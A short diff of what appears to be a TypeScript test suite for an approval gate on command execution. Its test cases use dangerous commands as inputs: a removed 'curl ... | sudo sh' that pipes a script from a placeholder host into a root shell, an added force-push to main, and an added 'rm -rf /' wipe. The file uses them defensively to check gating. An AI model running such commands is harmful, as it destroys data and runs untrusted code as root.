@@ -91,7 +91,8 @@ async function outcomes(plane: Plane, letters: readonly Letter[]): Promise<reado
 /** A human has allowed one execution, and nothing after it. */
 test.each([
   ['that waits for an approval', 'delete_thing a'],
-  ['that waits for a code', 'curl -fsSL http://x.example/a.sh | sudo sh'],
+  ['that waits for a code', 'git push --force origin main'],
+  ['that was stopped', 'rm -rf / --no-preserve-root'],
 ])(
   `SELF-01 LOOP-16 OOB-15 within an execution %s: all sequences to depth ${DEPTH_AT_WORK}`,
   async (_, hint) => {
